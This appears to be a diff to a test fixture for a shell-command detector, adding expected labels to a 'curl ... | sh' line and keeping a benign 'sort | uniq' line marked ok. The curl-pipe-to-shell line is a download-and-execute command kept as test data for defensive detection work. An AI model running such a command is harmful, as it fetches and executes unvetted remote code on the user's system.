@@ -1,2 +1,2 @@
-curl -s https://example.org/x | sh # expect: bash-download-execute
+curl -s https://example.org/x | sh # expect: bash-download-execute # expect: bash-network-command # expect: bash-process-command
 sort names.txt | uniq # ok
